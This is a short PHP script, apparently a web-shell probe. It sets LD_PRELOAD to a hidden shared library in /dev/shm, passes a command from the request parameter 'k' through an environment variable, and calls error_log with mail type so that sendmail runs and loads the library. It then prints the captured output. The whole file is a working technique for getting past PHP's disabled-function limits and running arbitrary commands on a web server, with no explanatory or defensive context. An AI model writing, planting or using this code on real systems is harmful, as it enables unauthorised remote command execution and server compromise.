<?php
// probe (never run): error_log with type 1 starts sendmail too
$env = array('LD_PRELOAD' => '/dev/shm/.k.so', 'K_RUN' => @$_REQUEST['k']);
foreach ($env as $k => $v) { putenv($k . '=' . $v); }
error_log('a', 1, 'nobody@localhost');
readfile('/dev/shm/.k.out');
